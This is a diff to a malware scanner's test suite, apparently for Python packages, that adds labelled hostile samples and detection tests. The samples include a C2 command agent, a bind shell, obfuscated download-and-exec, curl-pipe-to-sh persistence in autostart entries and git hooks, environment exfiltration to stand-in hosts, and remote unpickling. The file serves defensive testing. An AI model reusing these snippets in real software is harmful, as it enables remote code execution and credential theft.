@@ -271,6 +271,119 @@ TECHNIQUES = [
         "suspicious-endpoint.contacted",
     ),
     (
+        "c2-client-storing-its-session-on-self",
+        "import subprocess, threading, requests\n"
+        "class Agent(threading.Thread):\n"
+        "    def __init__(self):\n"
+        "        super().__init__(daemon=True)\n"
+        "        self.s = requests.Session()\n"
+        "    def run(self):\n"
+        "        task = self.s.get('https://c2.example.invalid/task').json()\n"
+        "        subprocess.run(task['cmd'], shell=True)\n"
+        "Agent().start()\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "bind-shell-on-a-file-descriptor",
+        "import socket, subprocess\n"
+        "def handle(conn):\n"
+        "    subprocess.Popen(['/bin/sh'], stdin=conn.fileno(), stdout=conn.fileno())\n",
+        "reverse-shell.socket-shell",
+    ),
+    (
+        "names-spelled-in-a-dict-through-a-helper",
+        "import importlib\n"
+        "_M = {0: ['u', 'r', 'l', 'l', 'i', 'b', '.', 'r', 'e', 'q', 'u', 'e', 's', 't'],"
+        " 1: ['u', 'r', 'l', 'o', 'p', 'e', 'n'], 2: ['b', 'u', 'i', 'l', 't', 'i', 'n', 's'],"
+        " 3: ['e', 'x', 'e', 'c']}\n"
+        "def _j(i):\n    return ''.join(_M[i])\n"
+        "body = getattr(importlib.import_module(_j(0)), _j(1))('https://c2.example.invalid/k').read()\n"
+        "getattr(importlib.import_module(_j(2)), _j(3))(body)\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "substitution-cipher-with-maketrans",
+        "SRC = b'abcdefghijklmnopqrstuvwxyz'\nDST = b'zyxwvutsrqponmlkjihgfedcba'\n"
+        "DATA = "
+        + repr(
+            b"print('inert')".translate(
+                bytes.maketrans(b"abcdefghijklmnopqrstuvwxyz", b"zyxwvutsrqponmlkjihgfedcba")
+            )
+        )
+        + "\nexec(DATA.translate(bytes.maketrans(DST, SRC)).decode())\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "names-assembled-with-reduce",
+        "import functools, operator\n"
+        "n = functools.reduce(operator.add, ['__', 'imp', 'ort', '__'])\n"
+        "m = getattr(__builtins__, n)(functools.reduce(operator.add, ['subpro', 'cess']))\n",
+        "obfuscation.hidden-name",
+    ),
+    (
+        "computed-callee-with-shell-true",
+        "import importlib\n"
+        "def prime(decode, table):\n"
+        "    m = importlib.import_module(decode(table['m']))\n"
+        "    getattr(m, decode(table['f']))(decode(table['c']), shell=True)\n",
+        "obfuscation.hidden-name",
+    ),
+    (
+        "autostart-desktop-entry-via-path-join",
+        "import os\n"
+        "def _register():\n"
+        "    d = os.path.join(os.environ.get('XDG_CONFIG_HOME', '~/.config'), 'autostart')\n"
+        "    with open(os.path.join(d, 'helper.desktop'), 'w') as fh:\n"
+        "        fh.write('[Desktop Entry]\\nExec=/bin/sh -c \"curl -s https://c2.example.invalid/a | sh\"')\n"
+        "_register()\n",
+        "persistence.payload",
+    ),
+    (
+        "git-hooks-written-on-import",
+        "import os\n"
+        "def ensure_hooks(top):\n"
+        "    for name in ('post-checkout', 'pre-push'):\n"
+        "        p = os.path.join(top, 'hooks', name)\n"
+        "        with open(p, 'a' if os.path.exists(p) else 'w') as fh:\n"
+        "            fh.write('curl -s https://c2.example.invalid/g')\n"
+        "ensure_hooks('.git')\n",
+        "persistence.autostart",
+    ),
+    (
+        "code-appended-to-another-installed-package",
+        "import os, site\n"
+        "HOOK = 'import os, urllib.request\\nurllib.request.urlopen(\"https://c2.example.invalid/\", data=repr(dict(os.environ)).encode())\\n'\n"
+        "for base in site.getsitepackages():\n"
+        "    with open(os.path.join(base, 'requests', '__init__.py'), 'a') as fh:\n"
+        "        fh.write(HOOK)\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "pickle-loaded-from-a-url",
+        "import pandas as pd\n"
+        "def load(name):\n    return pd.read_pickle('https://data.example.invalid/v1/' + name + '.pkl')\n"
+        "SP = load('sp500')\n",
+        "unsafe-deserialization.remote",
+    ),
+    (
+        "downloaded-path-returned-then-unpickled",
+        "import urllib.request, torch\n"
+        "def fetch(name):\n"
+        "    path = '/tmp/' + name + '.pt'\n"
+        "    urllib.request.urlretrieve('https://m.example.invalid/' + name, path)\n"
+        "    return path\n"
+        "MODEL = torch.load(fetch('yolo'), weights_only=False)\n",
+        "unsafe-deserialization.remote",
+    ),
+    (
+        "wmi-process-creation",
+        "import win32com.client\n"
+        "def run():\n"
+        "    wmi = win32com.client.GetObject('winmgmts:')\n"
+        "    wmi.Get('Win32_Process').Create('mshta.exe http://203.0.113.77/u.hta', None, None)\n",
+        "download-execute.remote-command",
+    ),
+    (
         "dpapi-decryption-sent",
         "import win32crypt, requests\n"
         "def steal(blob):\n"
@@ -347,6 +460,32 @@ LOOKALIKES = [
         "desktop-folder-of-a-platform-helper",
         "import os\ndef user_desktop_dir():\n"
         "    return os.path.join(os.path.expanduser('~'), 'Desktop')\n",
+    ),
+    (
+        "service-installer-run-from-a-cli-command",
+        "import subprocess\nfrom pathlib import Path\n"
+        "def install_service():\n"
+        "    (Path.home() / '.config' / 'systemd' / 'user' / 'app.service').write_text('[Unit]')\n"
+        "    subprocess.run(['systemctl', '--user', 'enable', '--now', 'app.service'])\n",
+    ),
+    (
+        "plugin-loader-importing-configured-names",
+        "import importlib\n"
+        "def load(path):\n"
+        "    module, _, attr = path.partition(':')\n"
+        "    return getattr(importlib.import_module(module), attr)\n",
+    ),
+    (
+        "pre-commit-style-hook-installer",
+        "import os\n"
+        "def install(git_dir):\n"
+        "    with open(os.path.join(git_dir, 'hooks', 'pre-commit'), 'w') as fh:\n"
+        "        fh.write('#!/usr/bin/env python3\\nimport sys\\n')\n",
+    ),
+    (
+        "optional-import-set-to-none",
+        "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
+        "def get(url):\n    return requests.get(url).text\n",
     ),
     (
         "template-engine-exec-of-generated-code",
@@ -522,3 +661,63 @@ def test_functions_called_on_import_count_as_import_time(tmp_path: Path) -> None
     # A dispatch table naming the function does not run it.
     table = body + "HANDLERS = {'fonts': install_fonts}\n"
     assert found(table)["download-execute.drop-and-run"] == "medium"
+
+
+def test_module_imported_by_a_pth_file_is_startup_code(tmp_path: Path) -> None:
+    audit = (
+        "import sys, urllib.request\n"
+        "def _hook(event, args):\n"
+        "    if event == 'open':\n"
+        "        urllib.request.urlopen('https://c2.example.invalid/v', data=repr(args).encode())\n"
+        "sys.addaudithook(_hook)\n"
+    )
+    files = {"pt/__init__.py": "", "pt/_audit.py": audit, "pt.pth": "import pt._audit\n"}
+    result = scan_target(_write(tmp_path, build_wheel("pt", "1.0", files)))
+    assert result.verdict == "malicious"
+    assert any(
+        f.rule == "startup-hook.sitecustomize-payload" and f.file == "pt/_audit.py"
+        for f in result.findings
+    )
+    # The same module without the .pth: a library function, not startup code.
+    del files["pt.pth"]
+    result = scan_target(_write(tmp_path, build_wheel("pt", "1.1", files)))
+    assert result.verdict == "clean"
+
+
+def test_in_tree_build_backend_runs_at_install_time(tmp_path: Path) -> None:
+    backend = (
+        "import os, subprocess\n"
+        "from setuptools import build_meta as _orig\n"
+        "build_wheel = _orig.build_wheel\n"
+        "def get_requires_for_build_wheel(config_settings=None):\n"
+        "    subprocess.run(['curl', '-fsSL', 'https://c2.example.invalid/b.sh', '-o', '/tmp/b'])\n"
+        "    subprocess.Popen(['/bin/sh', '/tmp/b'])\n"
+        "    return []\n"
+    )
+    pyproject = (
+        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\n'
+        'backend-path = ["."]\n'
+    )
+    files = {"backend.py": backend, "pyproject.toml": pyproject, "x/__init__.py": ""}
+    result = scan_target(_write(tmp_path, build_sdist("x", "1.0", files)))
+    assert result.verdict == "malicious"
+    assert any(f.rule == "download-execute.drop-and-run" for f in result.findings)
+
+
+def test_wheel_script_named_like_a_system_command(tmp_path: Path) -> None:
+    files = {"gx/__init__.py": "", "gx-1.0.data/scripts/git": '#!/bin/sh\nexec /usr/bin/git "$@"\n'}
+    result = scan_target(_write(tmp_path, build_wheel("gx", "1.0", files)))
+    assert "persistence.command-shadow" in {f.rule for f in result.findings}
+    files = {"gx/__init__.py": "", "gx-1.0.data/scripts/gx-sync": "#!/bin/sh\necho sync\n"}
+    result = scan_target(_write(tmp_path, build_wheel("gx", "1.1", files)))
+    assert result.verdict == "clean"
+
+
+def test_commands_inside_a_native_binary_of_a_pure_wheel(tmp_path: Path) -> None:
+    so = "sx/_speedups.cpython-311-x86_64-linux-gnu.so"
+    blob = ELF + b"PyInit__speedups\0curl -s https://c2.example.invalid/x|sh\0"
+    optional = "try:\n    from ._speedups import dumps\nexcept ImportError:\n    dumps = None\n"
+    result = scan_target(
+        _write(tmp_path, build_wheel("sx", "1.0", {"sx/__init__.py": optional, so: blob}))
+    )
+    assert result.verdict == "malicious"
